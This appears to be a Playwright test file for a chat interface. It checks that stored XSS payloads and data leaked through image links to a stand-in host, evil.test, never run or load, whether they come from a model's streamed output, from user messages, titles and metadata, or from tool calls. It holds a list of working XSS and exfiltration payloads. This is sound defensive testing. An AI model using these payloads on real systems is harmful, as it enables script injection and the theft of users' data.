@@ -1,0 +1,153 @@
+/** Stored scripts (S3) and data carried out by pictures and links (S5), in a real browser. */
+import type { Page } from '@playwright/test';
+import { expect, test } from './harness/story.ts';
+
+/** Each of them calls `alert` or fetches `evil.test` if it runs anywhere. */
+const ATTACKS = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)><svg/onload=alert(1)>',
+  '"><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
+  '[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [vb](vbscript:alert(1))',
+  '[entity](&#106;avascript:alert(1)) [tab](java\tscript:alert(1)) <javascript:alert(1)>',
+  '![out](https://evil.test/?secret) ![js](javascript:alert(1)) ![data](data:image/svg+xml,<svg onload=alert(1)>)',
+  '![ref][r]\n\n[r]: https://evil.test/ref "t"',
+  '```"><img src=x onerror=alert(1)>\ncode </code></pre><script>alert(1)</script>\n```',
+  '```html\n<img src=x onerror=alert(1)><script>alert(1)</script>\n```',
+  '```js onload=alert(1) class="x"\nalert(`</script><script>alert(1)</script>`)\n```',
+  '<style>@import "https://evil.test/css"; body{background:url(https://evil.test/bg)}</style>',
+  '<link rel=prefetch href=https://evil.test/p><meta http-equiv=refresh content="0;url=https://evil.test">',
+  '<base href="https://evil.test/"><form action="https://evil.test"><button>go</button></form>',
+  '<math><mtext></table><mglyph><style><img src=x onerror=alert(1)></style></math>',
+  '|a|\n|-|\n|<img src=x onerror=alert(1)>|',
+  '{{constructor.constructor("alert(1)")()}} <%= alert(1) %>',
+];
+
+/** Watches for anything that runs or leaves. */
+async function watch(page: Page): Promise<string[]> {
+  const seen: string[] = [];
+  page.on('dialog', (dialog) => {
+    seen.push(`dialog: ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  await page.exposeFunction('tellAlert', (words: string) => void seen.push(`alert: ${words}`));
+  await page.addInitScript(() => {
+    window.alert = (words) =>
+      void (window as unknown as { tellAlert(words: string): void }).tellAlert(String(words));
+  });
+  // Every change of the page is looked at, so that nothing is there even for a moment.
+  await page.addInitScript((selector) => {
+    new MutationObserver(() => {
+      const found = document.querySelector(selector);
+      if (found) void (window as unknown as { tellAlert(words: string): void }).tellAlert(found.outerHTML);
+    }).observe(document, { childList: true, subtree: true, attributes: true });
+  }, PLANTED);
+  await page.route(/evil\.test/, (route) => {
+    seen.push(`request: ${route.request().url()}`);
+    return route.abort();
+  });
+  page.on('framenavigated', (frame) => {
+    if (!/^(http:\/\/(127\.0\.0\.1|localhost)|about:blank)/.test(frame.url()))
+      seen.push(`navigated: ${frame.url()}`);
+  });
+  return seen;
+}
+
+/** Elements that could only come from an attack. */
+const PLANTED = `#root :is(script, iframe, object, embed, form:not(:has(textarea)), base, link, meta, style, math,
+  [onerror], [onload], [onfocus], [href^="javascript:" i], [href^="data:" i], [href^="vbscript:" i], img[src^="http"])`;
+const planted = (page: Page) => page.locator(PLANTED).count();
+
+test('what a model writes runs nowhere, at any point of its stream', async ({ page, chat }) => {
+  test.setTimeout(120_000);
+  const seen = await watch(page);
+  await chat.open();
+  for (const attack of [ATTACKS.slice(0, 9).join('\n\n'), ATTACKS.slice(9).join('\n\n')]) {
+    // One character at a time: every split of every attack is drawn once.
+    await chat.send(`Attack\n/script drip=4 text=${JSON.stringify(attack)}`);
+    await chat.hasState('completed', 60_000);
+    expect(seen).toEqual([]);
+  }
+  await page.waitForTimeout(500);
+  expect(await planted(page)).toBe(0);
+  await page.reload();
+  await chat.hasState('completed');
+  await page.waitForTimeout(500);
+  expect(seen).toEqual([]);
+});
+
+test('what a person writes, and names, runs nowhere either', async ({ page, chat }) => {
+  const seen = await watch(page);
+  await chat.open();
+  await chat.send(`${ATTACKS.join('\n')}\n/script text="ok" rate=0`);
+  await chat.hasState('completed');
+  for (const attack of ATTACKS.slice(0, 5)) {
+    const answer = await page.request.patch(`/api/v1/chats/${chat.chatId}`, {
+      data: {
+        title: attack,
+        description: attack,
+        tags: [attack.slice(0, 60)],
+        metadata: { [attack]: attack },
+      },
+    });
+    expect(answer.ok()).toBe(true);
+    await expect(page.locator('header h1')).toHaveText(attack);
+  }
+  await page.locator('header').getByRole('button', { name: 'More about this chat' }).click();
+  await page.getByRole('menuitem', { name: 'Details' }).click();
+  await expect(page.getByRole('dialog')).toBeVisible();
+  expect(await planted(page)).toBe(0);
+  await page.reload();
+  await chat.hasState('completed');
+  expect(await planted(page)).toBe(0);
+  expect(seen).toEqual([]);
+});
+
+test('a thought, a failure and a tool of a hostile model run nowhere', async ({ page, chat }) => {
+  const seen = await watch(page);
+  await chat.open();
+  const attack = ATTACKS[1]!;
+  await chat.send(`${attack}\n/script reasoning=5 tokens=3 rate=0 fail=end code=endpoint_error`);
+  await chat.hasState('failed');
+  await chat.send(
+    `${attack}\n/script rate=0 text="x" tool=${JSON.stringify(attack)} arguments=${JSON.stringify(attack)}`,
+  );
+  await expect(chat.replies).toHaveCount(2);
+  await expect(chat.reply).not.toHaveAttribute('data-state', /running|queued|unknown/);
+  expect(await planted(page)).toBe(0);
+  expect(seen).toEqual([]);
+});
+
+test('a remote picture is only a link that names its host', async ({ page, chat }) => {
+  const seen = await watch(page);
+  await chat.open();
+  await chat.send('Picture\n/script rate=0 text="![a cat](https://evil.test/cat.png?q=secret)"');
+  await chat.hasState('completed');
+  await expect(
+    chat.reply.getByRole('link', { name: 'Open the picture “a cat” from evil.test' }),
+  ).toBeVisible();
+  await page.waitForTimeout(300);
+  expect(seen).toEqual([]);
+});
+
+test('the page is served with a policy that would stop a script that got through', async ({ page, chat }) => {
+  await chat.open();
+  const refused = await page.evaluate(
+    () =>
+      new Promise<string[]>((resolve) => {
+        const refusals: string[] = [];
+        addEventListener('securitypolicyviolation', (event) => refusals.push(event.violatedDirective));
+        const script = document.createElement('script');
+        script.textContent = 'window.ran = true';
+        document.body.append(script);
+        const picture = document.createElement('img');
+        picture.src = 'https://evil.test/x.png';
+        document.body.append(picture);
+        setTimeout(() => resolve([...refusals, String('ran' in window)]), 500);
+      }),
+  );
+  expect(refused).toContain('script-src-elem');
+  expect(refused).toContain('img-src');
+  expect(refused.at(-1)).toBe('false');
+});
